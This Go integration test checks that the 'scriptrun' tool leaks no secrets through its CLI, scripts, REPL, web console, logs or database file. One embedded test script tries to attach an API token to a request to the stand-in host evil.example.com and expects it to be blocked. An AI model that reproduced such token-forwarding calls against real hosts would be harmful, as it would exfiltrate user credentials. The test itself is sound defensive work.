package main

import (
	"bufio"
	"io"
	"net/http"
	"net/http/cookiejar"
	"net/url"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/scriptrun/scriptrun/sandbox"
	"github.com/scriptrun/scriptrun/store"
)

// secretScan collects everything a person or an attacker could observe and
// the secrets that were live at each moment, and checks that no secret
// appears anywhere.
type secretScan struct {
	t        *testing.T
	home     string
	secrets  map[string]string // value -> what it is
	observed map[string]string // where -> what was seen
}

// snapshot records the secrets the home holds right now (they rotate).
func (s *secretScan) snapshot() {
	s.t.Helper()
	db := openHome(s.t, s.home)
	db.View(func(tx *store.Tx) error {
		ps, _ := tx.Providers()
		for _, p := range ps {
			if p.ClientSecret != "" {
				s.secrets[p.ClientSecret] = "client secret of " + p.Name
			}
		}
		ts, _ := tx.Tokens()
		for _, t := range ts {
			if t.Secret.AccessToken != "" {
				s.secrets[t.Secret.AccessToken] = "access token of " + t.Name
			}
			if t.Secret.RefreshToken != "" {
				s.secrets[t.Secret.RefreshToken] = "refresh token of " + t.Name
			}
			if t.Secret.APIKey != "" {
				s.secrets[t.Secret.APIKey] = "API key of " + t.Name
				if e := url.QueryEscape(t.Secret.APIKey); e != t.Secret.APIKey {
					s.secrets[e] = "API key of " + t.Name + " (URL-encoded)"
				}
			}
		}
		return nil
	})
}

func (s *secretScan) see(where, what string) { s.observed[where] += what }

// cli runs a command, records its output, and snapshots the secrets after it.
func (s *secretScan) cli(stdin string, args ...string) string {
	s.t.Helper()
	code, out, errs := proc(s.t, s.home, stdin, args...)
	s.see("scriptrun "+strings.Join(args, " "), out+errs)
	s.snapshot()
	if code != 0 {
		s.t.Fatalf("scriptrun %s: exit %d\n%s%s", strings.Join(args, " "), code, out, errs)
	}
	return out
}

func (s *secretScan) check() {
	s.t.Helper()
	if len(s.secrets) < 3 {
		s.t.Fatalf("only %d secrets collected: the scan would prove nothing", len(s.secrets))
	}
	for where, what := range s.observed {
		for secret, name := range s.secrets {
			if strings.Contains(what, secret) {
				s.t.Errorf("the %s appears in %s", name, where)
			}
		}
	}
}

// After a full flow — CLI, scripts across refreshes and failures, the REPL,
// the console and its logs — no client secret, access token or refresh
// token appears in any output, page, log, history file or in the database
// file's bytes.
func TestNoSecretObservable(t *testing.T) {
	if testing.Short() {
		t.Skip("runs the whole product")
	}
	srv, err := sandbox.Start(sandbox.Options{AccessTTL: 2 * time.Second})
	if err != nil {
		t.Fatal(err)
	}
	defer srv.Close()
	s := &secretScan{t: t, home: t.TempDir(), secrets: map[string]string{srv.ClientSecret(): "client secret"}, observed: map[string]string{}}

	s.cli(srv.ClientSecret()+"\n", "provider", "add", "sandbox", "--client-id", srv.ClientID(), "--client-secret-stdin",
		"--auth-url", srv.AuthURL(), "--token-url", srv.TokenURL(), "--scopes", "read", "--revocation-url", srv.RevocationURL())
	s.cli("", "token", "add", "api", "--provider", "sandbox", "--base-url", srv.URL())

	// Get authorization token from the terminal.
	out, callback := authorizeCLI(t, s.home, srv, "api")
	s.see("token authorize", out)
	s.see("the callback URL", callback.String())
	s.snapshot()

	// Scripts: across a refresh, printing everything they can reach, and failing.
	dir := t.TempDir()
	script := writeScript(t, dir, "nosy.js", `
const sleep = (ms) => new Promise((r) => setTimeout(r, ms));
(async () => {
  const req = http.get(args[0] + '/echo').apiTokenAuth('api');
  const res = req.send();
  console.log(JSON.stringify(req), JSON.stringify(res), JSON.stringify(res.headers), res.body);
  await sleep(2100);
  const r = await fetch(args[0] + '/me', { apiTokenAuth: 'api' });
  console.log(r.status, JSON.stringify([...r.headers]), await r.text());
  console.error(Object.keys(globalThis).join(' '));
  try { http.get('https://evil.example.com/').apiTokenAuth('api').send(); } catch (e) { console.log(e.code, e.message, e.stack); }
  throw new Error('deliberate failure after ' + res.status);
})();
`)
	code, out, errs := proc(t, s.home, "", script, srv.APIURL())
	if code != exitScript || !strings.Contains(out, "TOKEN_HOST_MISMATCH") {
		t.Fatalf("nosy script: exit %d\n%s%s", code, out, errs)
	}
	s.see("a script's output", out+errs)
	s.snapshot()

	// The REPL, piped.
	replIn := "const r = await fetch('" + srv.APIURL() + "/me', {apiTokenAuth: 'api'})\nr\nhttp.get('" + srv.APIURL() + "/echo').apiTokenAuth('api').send()\n"
	_, out, errs = proc(t, s.home, replIn, "repl")
	s.see("the REPL", out+errs)
	s.snapshot()

	// An API key in the query, across redirects of every kind.
	s.queryKeyRedirects()

	// The CLI's views, then a refresh and a failed refresh.
	for _, args := range [][]string{{"token", "show", "api"}, {"token", "show", "api", "--json"}, {"token", "list"}, {"token", "list", "--json"},
		{"provider", "show", "sandbox"}, {"provider", "show", "sandbox", "--json"}, {"provider", "list", "--json"}, {"token", "refresh", "api"}} {
		s.cli("", args...)
	}
	srv.SetTokenFault(func(w http.ResponseWriter, r *http.Request) bool {
		r.ParseForm()
		w.Header().Set("Content-Type", "application/json")
		w.WriteHeader(400)
		// A provider that echoes what it was sent must not get it repeated.
		io.WriteString(w, `{"error":"invalid_grant","error_description":"bad `+r.PostForm.Get("refresh_token")+`"}`)
		return true
	})
	_, out, errs = proc(t, s.home, "", "token", "refresh", "api")
	s.see("a failed refresh", out+errs)
	srv.SetTokenFault(nil)

	// The console and its logs.
	s.cli("a long admin password\n", "admin", "password")
	s.serveConsole()

	for _, name := range []string{"scriptrun.db", "repl_history", "master.key"} {
		if b, err := os.ReadFile(filepath.Join(s.home, name)); err == nil && name != "master.key" {
			s.see(name, string(b))
		}
	}
	s.check()
}

// serveConsole starts serve, signs in, visits every page and presses
// Refresh now, recording the HTML and serve's log.
func (s *secretScan) serveConsole() {
	t := s.t
	cmd := exec.Command(binary(t), "serve", "--addr", "127.0.0.1:0", "--callback-url", "http://127.0.0.1:0/oauth/callback")
	cmd.Env = append(os.Environ(), "SCRIPTRUN_HOME="+s.home)
	stdout, _ := cmd.StdoutPipe()
	var logs syncBuffer
	cmd.Stderr = &logs
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	defer func() {
		cmd.Process.Signal(syscall.SIGTERM)
		cmd.Wait()
		s.see("serve's log", logs.String())
	}()
	sc := bufio.NewScanner(stdout)
	base := ""
	for base == "" && sc.Scan() {
		if l := sc.Text(); strings.HasPrefix(l, "scriptrun console: ") {
			base = strings.TrimSuffix(strings.TrimPrefix(l, "scriptrun console: "), "/")
		}
	}
	go io.Copy(io.Discard, stdout)
	if base == "" {
		t.Fatalf("serve printed no address:\n%s", logs.String())
	}
	jar, _ := cookiejar.New(nil)
	client := &http.Client{Jar: jar}
	csrfRE := regexp.MustCompile(`name="csrf" value="([^"]+)"`)
	page := func(path string) string {
		t.Helper()
		resp, err := client.Get(base + path)
		if err != nil {
			t.Fatal(err)
		}
		b, _ := io.ReadAll(resp.Body)
		resp.Body.Close()
		s.see("console page "+path, string(b))
		return string(b)
	}
	post := func(path string, form url.Values) string {
		t.Helper()
		resp, err := client.PostForm(base+path, form)
		if err != nil {
			t.Fatal(err)
		}
		b, _ := io.ReadAll(resp.Body)
		resp.Body.Close()
		s.see("console POST "+path, string(b))
		return string(b)
	}
	m := csrfRE.FindStringSubmatch(page("/login"))
	if m == nil {
		t.Fatal("no sign-in form")
	}
	post("/login", url.Values{"csrf": {m[1]}, "password": {"a long admin password"}, "next": {"/tokens"}})
	tokenPage := page("/tokens/api")
	if !strings.Contains(tokenPage, "<title>Token api") || !strings.Contains(tokenPage, "reauth") {
		t.Fatalf("not signed in, or the token page lacks its state (reauth_required after the refused refresh):\n%s", tokenPage)
	}
	for _, p := range []string{"/tokens", "/providers", "/providers/sandbox", "/tokens/api/edit", "/providers/sandbox/edit"} {
		page(p)
	}
	if m := csrfRE.FindStringSubmatch(tokenPage); m != nil {
		post("/tokens/api/refresh", url.Values{"csrf": {m[1]}})
		s.snapshot()
	}
}
